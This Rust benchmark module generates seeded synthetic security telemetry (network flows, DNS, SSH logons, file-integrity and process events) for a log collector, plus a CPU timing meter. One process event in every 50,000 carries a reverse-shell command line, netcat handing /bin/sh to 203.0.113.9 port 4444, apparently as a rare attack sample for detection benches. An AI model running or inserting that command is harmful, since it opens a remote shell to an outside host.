//! A seeded city for the benches: hosts of 40 units in 5 sectors (flow 45 %, dns 20 %, auth 10 %, file 11 %, process 14 %), as packed
//! wire batches of 500 events in order of time, and the meter they are measured with. The same seed gives the same city.

#![allow(dead_code, reason = "each bench uses its part")]

use std::net::Ipv4Addr;

use collector::store::Frame;
use event::{AgentId, Class, Epoch, Event, EventId, Kind, LogSource, Severity, Timestamp, field};

pub const START: i64 = 1_789_000_000;
pub const BATCH: usize = 500;

/// What is made.
#[derive(Clone, Copy)]
pub struct City {
    pub events: u64,
    /// Hosts that send them, evenly.
    pub hosts: u64,
    /// Seconds they are spread over, evenly.
    pub span_s: i64,
    /// With unit, sector and the like already in the events, for benches that do not normalise.
    pub joined: bool,
}

/// Packed batches in order of time, and one event to look for.
pub fn batches(city: City) -> (Vec<Frame>, Event) {
    let total = city.events;
    let mut chance = Chance(42);
    let mut packer = wire::batch::Packer::new(3);
    let mut lanes: Vec<Lane> = (0..city.hosts * 3).map(|_| Lane { rows: Vec::new(), next_seq: 1 }).collect();
    let mut frames = Vec::new();
    let mut sample = None;
    let mut flush = |at: usize, lane: &mut Lane, now: Timestamp| {
        let class = Class::ALL[at % 3];
        let (first_seq, count) = (lane.next_seq, lane.rows.len() as u64);
        for row in lane.rows.drain(..) {
            assert!(packer.push(wire::batch::Row::Event(&row)), "a batch holds {BATCH} events");
        }
        let batch = packer.pack(class, Epoch(START as u64), first_seq).expect("a batch that is not empty");
        lane.next_seq += count;
        let (agent, epoch) = (AgentId(1 + at as u64 / 3), Epoch(START as u64));
        frames.push(Frame { agent, received: now, class, epoch, first_seq, last_seq: first_seq + count - 1, bytes: batch.to_bytes() });
    };
    for n in 0..total {
        let part = i128::from(n) * i128::from(city.span_s * 1_000) / i128::from(total);
        let time = Timestamp::from_ms(START * 1_000 + part as i64);
        let host = chance.below(city.hosts);
        let mut event = make(&mut chance, host, time, n, city.joined);
        let class = event.id.class as usize;
        let at = host as usize * 3 + class;
        let mut raw = Vec::new();
        wire::event::encode(&event, &mut raw);
        let lane = &mut lanes[at];
        lane.rows.push(raw);
        if sample.is_none() && n > total / 2 && event.get(field::FILE_SHA256).is_some() {
            let seq = lane.next_seq + lane.rows.len() as u64 - 1;
            event.id = EventId { agent: AgentId(1 + host), epoch: Epoch(START as u64), class: Class::ALL[class], seq };
            sample = Some(event);
        }
        if lane.rows.len() == BATCH {
            flush(at, lane, time);
        }
    }
    for (at, lane) in lanes.iter_mut().enumerate().filter(|(_, l)| !l.rows.is_empty()) {
        flush(at, lane, Timestamp::from_secs(START + city.span_s));
    }
    (frames, sample.expect("a file event in the second half"))
}

struct Lane {
    rows: Vec<Vec<u8>>,
    next_seq: u64,
}

/// Units; host `h` belongs to unit `h % UNITS`, unit `u` to sector `u % 5`.
pub const UNITS: u64 = 40;
pub const SECTORS: [&str; 5] = ["finance", "energy", "power", "telecom", "transport"];

fn make(chance: &mut Chance, host: u64, time: Timestamp, n: u64, joined: bool) -> Event {
    let own = Ipv4Addr::new(10, (host / 250) as u8, (host % 250) as u8, 10);
    let share = chance.below(100);
    let (mut e, class) = match share {
        0..45 => (flow(chance, own, time), Class::Bulk),
        45..65 => (dns(chance, own, time), Class::Normal),
        65..75 => (logon(chance, time), Class::Critical),
        75..86 => (file(chance, time, n), Class::Critical),
        _ => (process(chance, time, n), Class::Normal),
    };
    e.id.class = class;
    if chance.below(100) < 2 {
        e.severity = Severity::High;
    }
    e.body.set(field::DEVICE_HOSTNAME, format!("host-{host:03}"));
    e.body.set(field::DEVICE_IP, std::net::IpAddr::from(own));
    if !joined {
        return e;
    }
    let unit = host % UNITS;
    e.body.set(field::UNIT_ID, format!("unit-{unit:02}"));
    e.body.set(field::UNIT_NAME, format!("第{unit}单位"));
    e.body.set(field::UNIT_SECTOR, SECTORS[unit as usize % 5]);
    e.body.set(field::OBJECT_IMPORTANCE, 1 + unit % 3);
    e.body.set(field::AGENT_ID, AgentId(1 + host).to_string());
    e.body.set(field::RECEIVED_TIME, time.ms() + 40 + (n / 500 % 20) as i64);
    e
}

fn outside(chance: &mut Chance) -> std::net::IpAddr {
    // A few addresses are everywhere, most are seen seldom.
    match chance.below(100) {
        0..5 => Ipv4Addr::new(203, 0, 113, 1).into(),
        5..60 => Ipv4Addr::new(203, 0, 113, (chance.below(200) + 2) as u8).into(),
        _ => Ipv4Addr::from(0x2d00_0000 + chance.below(60_000) as u32).into(),
    }
}

fn flow(chance: &mut Chance, own: Ipv4Addr, time: Timestamp) -> Event {
    let inbound = chance.below(4) == 0;
    let (a, b) = (outside(chance), std::net::IpAddr::from(own));
    let (src, dst) = if inbound { (a, b) } else { (b, a) };
    let state = ["SF", "SF", "SF", "SF", "S0", "REJ", "RSTO", "SF", "SF", "SF"][chance.below(10) as usize];
    let (out, back) = (200 + chance.below(4_000), 100 + chance.below(60_000));
    Event::new(time, Kind::NetworkActivity, 2, LogSource::new("", "network_connection", "flow"))
        .with(field::SRC_IP, src)
        .with(field::SRC_PORT, 32_768 + chance.below(28_000))
        .with(field::DST_IP, dst)
        .with(field::DST_PORT, [443u64, 443, 443, 80, 53, 22, 3389, 8080, 25, 445][chance.below(10) as usize])
        .with(field::PROTOCOL, if chance.below(10) == 0 { "udp" } else { "tcp" })
        .with(field::DIRECTION_ID, if inbound { 1u8 } else { 2 })
        .with(field::CONN_STATE, state)
        .with(field::BYTES_OUT, out)
        .with(field::BYTES_IN, back)
        .with(field::PACKETS_OUT, out / 400 + 1)
        .with(field::PACKETS_IN, back / 1_200 + 1)
        .with(field::DURATION_MS, chance.below(30_000))
}

fn dns(chance: &mut Chance, own: Ipv4Addr, time: Timestamp) -> Event {
    let name = chance.below(5_000);
    Event::new(time, Kind::DnsActivity, 2, LogSource::new("", "dns", "dns"))
        .with(field::SRC_IP, std::net::IpAddr::from(own))
        .with(field::DST_IP, std::net::IpAddr::from([10, 0, 0, 53]))
        .with(field::DST_PORT, 53u8)
        .with(field::SRC_PORT, 32_768 + chance.below(28_000))
        .with(field::DNS_QUERY, format!("www{}.site-{name}.example", name % 7))
        .with(field::DNS_TYPE, ["A", "A", "AAAA", "TXT"][chance.below(4) as usize])
        .with(field::DNS_RCODE, if chance.below(20) == 0 { "NXDomain" } else { "NoError" })
        .with(field::DNS_ANSWERS, vec![format!("203.0.113.{}", name % 250)])
}

fn logon(chance: &mut Chance, time: Timestamp) -> Event {
    let failed = chance.below(5) == 0;
    let user = format!("user{}", chance.below(300));
    let src = outside(chance);
    let pid = 1_000 + chance.below(30_000);
    let verb = if failed { "Failed" } else { "Accepted" };
    Event::new(time, Kind::Authentication, 1, LogSource::new("linux", "", "sshd"))
        .with(field::RAW_DATA, format!("sshd[{pid}]: {verb} password for {user} from {src} port {} ssh2", 32_768 + chance.below(28_000)))
        .with(field::LOG_PATH, "/var/log/auth.log")
        .with(field::USER_NAME, user)
        .with(field::SRC_IP, src)
        .with(field::STATUS_ID, if failed { 2u8 } else { 1 })
        .with(field::AUTH_PROTOCOL, "password")
        .with(field::SERVICE_NAME, "sshd")
        .with(field::IS_REMOTE, true)
}

fn file(chance: &mut Chance, time: Timestamp, n: u64) -> Event {
    // Most changed files are versions of the same few thousand.
    let content = if chance.below(10) == 0 { n + 1_000_000 } else { chance.below(4_000) };
    let hash = format!("{:016x}{:016x}{:016x}{:016x}", mix(content), mix(content + 1), mix(content + 2), mix(content + 3));
    Event::new(time, Kind::FileActivity, 3, LogSource::new("linux", "file_event", "fim"))
        .with(field::FILE_PATH, format!("/var/lib/app{}/data/item-{}.bin", content % 30, content % 3_000))
        .with(field::FILE_NAME, format!("item-{}.bin", content % 3_000))
        .with(field::FILE_SHA256, hash)
        .with(field::FILE_SIZE, content * 37 % 1_000_000)
        .with(field::FILE_CHANGES, vec!["content".to_owned()])
}

fn process(chance: &mut Chance, time: Timestamp, n: u64) -> Event {
    let name = ["bash", "python3", "curl", "systemd", "cron", "java", "nginx", "sh"][chance.below(8) as usize];
    let cmd = if n % 50_000 == 17 {
        "nc -e /bin/sh 203.0.113.9 4444".to_owned()
    } else {
        format!("/usr/bin/{name} --config /etc/{name}/{}.conf --worker {}", chance.below(50), chance.below(1_000))
    };
    Event::new(time, Kind::ProcessActivity, 1, LogSource::new("linux", "process_creation", ""))
        .with(field::PROCESS_NAME, name)
        .with(field::PROCESS_CMD_LINE, cmd)
        .with(field::PROCESS_PATH, format!("/usr/bin/{name}"))
        .with(field::PROCESS_PID, 1_000 + chance.below(60_000))
        .with(field::PARENT_PID, 1 + chance.below(1_000))
        .with(field::PARENT_NAME, "systemd")
        .with(field::USER_NAME, ["root", "www-data", "app", "postgres"][chance.below(4) as usize])
}

/// SplitMix64: the same seed gives the same city.
struct Chance(u64);

fn mix(n: u64) -> u64 {
    let mut z = n.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

impl Chance {
    fn below(&mut self, n: u64) -> u64 {
        self.0 = self.0.wrapping_add(1);
        mix(self.0) % n
    }
}

#[expect(clippy::disallowed_methods, reason = "a benchmark measures time")]
pub fn instant() -> std::time::Instant {
    std::time::Instant::now()
}

pub fn median(mut f: impl FnMut()) -> f64 {
    f();
    let mut runs: Vec<f64> = (0..7)
        .map(|_| {
            let start = instant();
            f();
            start.elapsed().as_secs_f64() * 1e3
        })
        .collect();
    runs.sort_by(f64::total_cmp);
    runs[3]
}

pub struct Meter {
    began: (std::time::Instant, f64),
    lap: (std::time::Instant, f64),
}

impl Meter {
    pub fn start() -> Self {
        let now = (instant(), cpu());
        Self { began: now, lap: now }
    }
    pub fn lap(&mut self, name: &str, events: u64) {
        say(name, self.lap, events);
        self.lap = (instant(), cpu());
    }
    /// Says the whole and gives events a CPU-second.
    pub fn total(&self, name: &str, events: u64) -> f64 {
        say(name, self.began, events)
    }
}

fn say(name: &str, since: (std::time::Instant, f64), events: u64) -> f64 {
    let (wall, used) = (since.0.elapsed().as_secs_f64(), cpu() - since.1);
    println!("{name}: {wall:.2} s wall, {used:.2} CPU-s, {:.0} events/CPU-s, {:.0} events/s", events as f64 / used, events as f64 / wall);
    events as f64 / used
}

/// CPU seconds of this process so far; the kernel counts in hundredths.
pub fn cpu() -> f64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let after = stat.rsplit_once(')').map_or("", |p| p.1);
    let ticks: f64 = after.split_whitespace().skip(11).take(2).filter_map(|t| t.parse::<f64>().ok()).sum();
    ticks / 100.0
}

pub fn status_kb(key: &str) -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status.lines().find_map(|l| l.strip_prefix(key)?.trim_start_matches(':').trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
}
